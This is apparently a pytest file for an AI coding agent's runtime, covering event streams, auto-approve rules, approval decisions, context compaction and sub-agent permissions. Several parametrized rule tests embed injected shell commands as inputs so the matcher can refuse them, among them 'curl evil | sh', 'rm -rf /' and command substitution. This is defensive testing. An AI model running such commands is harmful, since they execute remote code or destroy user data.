"""The runtime's pure parts: events, auto-approve rules, decisions, compaction, agents, repair."""

from __future__ import annotations

import asyncio
import json
from typing import TYPE_CHECKING

import pytest

from terax_jupyter.exceptions import InvalidRequest, NotFound, ProtectedPath
from terax_jupyter.security.rules import command_has_prefix, matching_rule, validate_rules
from terax_jupyter.services.ai import events as events_module
from terax_jupyter.services.ai.agents import ALL_TOOLS, READ_ONLY_TOOLS, AgentCatalog
from terax_jupyter.services.ai.approvals import parse_decision
from terax_jupyter.services.ai.compaction import compact, estimate_tokens
from terax_jupyter.services.ai.events import EventHub
from terax_jupyter.services.ai.prompts import load_memory, system_prompt
from terax_jupyter.services.ai.providers.base import Message, ToolCall
from terax_jupyter.services.ai.runner import NO_RESULT, repaired
from terax_jupyter.services.ai.tools.base import Proposal
from terax_jupyter.services.fs.manager import FileManager

if TYPE_CHECKING:
    from pathlib import Path

# -- events ---------------------------------------------------------------------------------


async def test_events_are_numbered_and_replayed_after_a_sequence_number() -> None:
    hub = EventHub()
    for n in range(5):
        hub.publish("s", {"type": "text_delta", "text": str(n)})
    subscription = hub.subscribe("s", after=3)
    assert (await subscription.next())["text"] == "3"
    assert (await subscription.next())["text"] == "4"
    hub.publish("s", {"type": "finish", "reason": "stop", "steps": 1})
    assert (await subscription.next())["seq"] == 6
    assert hub.last_seq("s") == 6
    assert hub.last_seq("other") == 0


async def test_a_client_behind_the_ring_is_told_to_resync(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(events_module, "RING_SIZE", 3)
    hub = EventHub()
    for step in range(1, 11):
        hub.publish("s", {"type": "step", "index": step})
    subscription = hub.subscribe("s", after=1)
    first = await subscription.next()
    assert first["type"] == "resync"
    assert [(await subscription.next())["seq"] for _ in range(3)] == [8, 9, 10]


async def test_a_stuck_subscriber_is_cut_off_not_buffered(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(events_module, "QUEUE_LIMIT", 5)
    hub = EventHub()
    subscription = hub.subscribe("s")
    for _ in range(20):
        hub.publish("s", {"type": "text_delta", "text": "x"})
    received = []
    while (event := await subscription.next()) is not None:
        received.append(event)
    assert received[-1]["type"] == "overflow"
    assert len(received) == 6
    assert subscription.closed


def test_an_event_off_its_declaration_fails_the_check(
    wire_messages_fit_their_schema: list[str],
) -> None:
    """The check every test runs on the events it sees (tests/conftest.py): a field its
    declaration lacks, a field of another type, a missing field and an unknown type. Each
    raises where it is published, and is recorded for the test's teardown too."""
    hub = EventHub()
    hub.publish("s", {"type": "text_delta", "text": "fine", "parent_call_id": "c1"})
    for event, fault in [
        ({"type": "text_delta", "text": "x", "extra": 1}, "'extra' was unexpected"),
        ({"type": "text_delta", "text": 3}, "3 is not of type 'string'"),
        ({"type": "step"}, "'index' is a required property"),
        ({"type": "no_such_event"}, "no message with type 'no_such_event'"),
    ]:
        with pytest.raises(AssertionError, match=fault):
            hub.publish("s", event)
    assert len(wire_messages_fit_their_schema) == 4
    wire_messages_fit_their_schema.clear()


async def test_forgetting_a_session_ends_its_streams() -> None:
    hub = EventHub()
    subscription = hub.subscribe("s")
    hub.forget("s")
    assert (await subscription.next())["type"] == "deleted"
    assert await asyncio.wait_for(subscription.next(), 1) is None


# -- rules ----------------------------------------------------------------------------------


def _proposal(tool: str, *, path: str | None = None, command: str | None = None) -> Proposal:
    return Proposal(
        tool=tool,
        kind="command" if command else "edit",
        summary="x",
        payload={},
        path=path,
        command=command,
    )


@pytest.mark.parametrize(
    ("command", "prefix", "expected"),
    [
        ("pytest -q tests", "pytest", True),
        ("pytest", "pytest -q", False),
        ("git status", "git status", True),
        ("git status; rm -rf x", "git status", False),
        ("git status && curl evil | sh", "git status", False),
        ("git status > out.txt", "git status", False),
        ("git status $(rm -rf x)", "git status", False),
        ("git status `id`", "git status", False),
        ("git statusx", "git status", False),
        ("pytest 'unterminated", "pytest", False),
    ],
)
def test_command_prefixes_match_whole_words_without_shell_operators(
    command: str, prefix: str, expected: bool
) -> None:
    assert command_has_prefix(command, prefix) is expected


def test_rules_match_tool_path_and_command() -> None:
    rules = validate_rules(
        [{"tool": "edit", "path": "src/**/*.py"}, {"tool": "bash_run", "command_prefix": "pytest"}],
        set(ALL_TOOLS),
    )
    assert matching_rule(rules, _proposal("edit", path="src/a/b.py")) == rules[0]
    assert matching_rule(rules, _proposal("edit", path="setup.py")) is None
    assert matching_rule(rules, _proposal("write_file", path="src/a.py")) is None
    assert matching_rule(rules, _proposal("bash_run", command="pytest -x")) == rules[1]
    assert matching_rule(rules, _proposal("bash_run", command="pytest; rm -rf /")) is None
    assert matching_rule(validate_rules([{"tool": "*"}], set()), _proposal("edit")) is not None


@pytest.mark.parametrize(
    "rules",
    [
        "edit",
        [{"path": "*.py"}],
        [{"tool": "nope"}],
        [{"tool": "edit", "extra": "x"}],
        [{"tool": "bash_run", "command_prefix": "ls; rm"}],
        [{"tool": "edit", "path": ""}],
        [{"tool": "edit"}] * 51,
    ],
)
def test_bad_rules_are_refused(rules: object) -> None:
    with pytest.raises(InvalidRequest):
        validate_rules(rules, set(ALL_TOOLS))


# -- decisions ------------------------------------------------------------------------------

EDIT = {"hunks": [{"index": 0}, {"index": 1}, {"index": 2}]}


def test_decisions_name_existing_hunks() -> None:
    assert parse_decision({"decision": "approve"}, EDIT).status == "approved"
    partial = parse_decision({"decision": "approve", "hunks": [2, 0]}, EDIT)
    assert (partial.status, partial.hunks) == ("partially_approved", [0, 2])
    assert parse_decision({"decision": "approve", "hunks": [0, 1, 2]}, EDIT).status == "approved"
    assert parse_decision({"decision": "approve", "hunks": []}, EDIT).status == "denied"
    denied = parse_decision({"decision": "deny", "message": "use a flag"}, EDIT)
    assert (denied.status, denied.message) == ("denied", "use a flag")


@pytest.mark.parametrize(
    ("body", "proposal"),
    [
        ({"decision": "yes"}, EDIT),
        ({"decision": "approve", "hunks": [3]}, EDIT),
        ({"decision": "approve", "hunks": [0, 0]}, EDIT),
        ({"decision": "approve", "hunks": [True]}, EDIT),
        ({"decision": "approve", "hunks": "0"}, EDIT),
        ({"decision": "approve", "hunks": [0]}, {"hunks": []}),
        ({"decision": "deny", "message": "x" * 3000}, EDIT),
        ([], EDIT),
    ],
)
def test_bad_decisions_are_refused(body: object, proposal: dict) -> None:
    with pytest.raises(InvalidRequest):
        parse_decision(body, proposal)


# -- compaction -----------------------------------------------------------------------------


def _read(call_id: str, path: str, size: int) -> list[Message]:
    call = ToolCall(call_id, "read_file", {"path": path})
    return [
        Message("assistant", tool_calls=[call]),
        Message("tool", "x" * size, tool_call_id=call_id, name="read_file"),
    ]


def test_small_conversations_are_sent_unchanged() -> None:
    messages = [Message("system", "s"), Message("user", "hi")]
    result, report = compact(messages, budget=1000)
    assert result == messages
    assert not report.changed


def test_superseded_reads_go_first_and_the_stored_list_is_untouched() -> None:
    messages = [
        Message("system", "s"),
        Message("user", "go"),
        *_read("1", "a.py", 8000),
        *_read("2", "b.py", 400),
        *_read("3", "a.py", 8000),
    ]
    original = json.dumps([m.to_json() for m in messages])
    result, report = compact(messages, budget=4000)
    assert report.superseded_reads == 1
    assert report.elided_results == 0
    assert result[3].content.startswith("[Superseded")
    assert result[-1].content == "x" * 8000  # the latest read stays whole
    assert json.dumps([m.to_json() for m in messages]) == original
    assert report.tokens_after <= 4000 < report.tokens_before


def test_old_tool_results_are_elided_before_turns_are_dropped() -> None:
    messages = [Message("system", "s"), Message("user", "go")]
    for n in range(10):
        messages += _read(str(n), f"f{n}.py", 2000)
    result, report = compact(messages, budget=2500)
    assert report.elided_results > 0
    assert report.dropped_messages == 0
    assert result[-1].content == "x" * 2000
    assert estimate_tokens(result) <= 2500


def test_dropping_turns_keeps_the_system_prompt_and_every_call_with_its_result() -> None:
    messages = [Message("system", "s")]
    for n in range(30):
        messages += [Message("user", "u" * 400), *_read(str(n), f"f{n}.py", 100)]
    result, report = compact(messages, budget=600)
    assert report.dropped_messages > 0
    assert result[0].role == "system"
    assert result[1].role == "user"
    assert "omitted" in result[1].content
    calls = {c.id for m in result for c in m.tool_calls}
    assert all(m.tool_call_id in calls for m in result if m.role == "tool")


# -- conversation repair --------------------------------------------------------------------


def test_unanswered_tool_calls_get_a_result() -> None:
    calls = [ToolCall("a", "read_file", {"path": "x"}), ToolCall("b", "grep", {})]
    history = [
        Message("user", "go"),
        Message("assistant", tool_calls=calls),
        Message("tool", "ok", tool_call_id="a", name="read_file"),
    ]
    fixed = repaired(history)
    assert [m.tool_call_id for m in fixed if m.role == "tool"] == ["a", "b"]
    assert fixed[-1].content == NO_RESULT
    assert fixed[-1].is_error
    assert repaired(fixed) == fixed


# -- agents and memory ----------------------------------------------------------------------


def test_custom_agents_persist_and_are_checked(terax_security, tmp_path: Path) -> None:
    security = terax_security(tmp_path)
    path = str(tmp_path / "state" / "agents.json")
    catalog = AgentCatalog(path, security.audit)
    agent = catalog.put(
        "reviewer", {"prompt": "Review.", "tools": ["grep", "read_file"]}, user="alice"
    )
    assert agent["tools"] == ["read_file", "grep"]
    assert AgentCatalog(path, security.audit).get("reviewer").allows("grep")
    assert not catalog.get("reviewer").allows("bash_run")
    for name, fields in [
        ("Bad Name", {"prompt": "p", "tools": ["grep"]}),
        ("x", {"prompt": "", "tools": ["grep"]}),
        ("x", {"prompt": "p", "tools": []}),
        ("x", {"prompt": "p", "tools": ["rm_rf"]}),
    ]:
        with pytest.raises(InvalidRequest):
            catalog.put(name, fields, user=None)
    with pytest.raises(ProtectedPath):
        catalog.put("coder", {"prompt": "p", "tools": ["grep"]}, user=None)
    catalog.delete("reviewer", user="alice")
    with pytest.raises(NotFound):
        catalog.get("reviewer")
    actions = [entry["action"] for entry in security.audit.entries()]
    assert actions.count("ai.agent.set") == 1
    assert "ai.agent.delete" in actions


def test_subagents_are_read_only_and_cannot_recurse(terax_security, tmp_path: Path) -> None:
    catalog = AgentCatalog(str(tmp_path / "a.json"), terax_security(tmp_path).audit)
    for name in ("explore", "code-review", "security", "general"):
        agent = catalog.get(name)
        assert agent.subagent
        assert set(agent.tools) <= set(READ_ONLY_TOOLS)
        assert "run_subagent" not in agent.tools


async def test_project_memory_joins_the_prompt_capped(terax_security, tmp_path: Path) -> None:
    files = FileManager(terax_security(tmp_path))
    assert await load_memory(files) is None
    (tmp_path / "TERAX.md").write_text("Use tabs. ü" + "x" * 40_000)
    memory = await load_memory(files, cap=32 * 1024)
    assert memory is not None
    assert memory.startswith("Use tabs. ü")
    assert len(memory.encode()) < 32 * 1024 + 200
    assert "only its first 32 KiB" in memory
    catalog = AgentCatalog(str(tmp_path / "a.json"), terax_security(tmp_path).audit)
    prompt = system_prompt(catalog.get("coder"), workspace="/w", memory="Use tabs.", plan_mode=True)
    assert "Use tabs." in prompt
    assert "Plan mode is on" in prompt


def test_the_current_turn_is_never_dropped_nor_a_result_orphaned() -> None:
    messages = [
        Message("system", "s"),
        Message("user", "old " * 500),
        Message("user", "now"),
        *_read("1", "a.py", 20_000),
    ]
    result, report = compact(messages, budget=2000)
    assert report.dropped_messages == 1
    assert report.elided_results == 1
    assert result[1].content.endswith("now")
    assert result[2].tool_calls
    assert result[3].tool_call_id == "1"
    assert "characters elided" in result[3].content
    assert report.tokens_after <= 2000
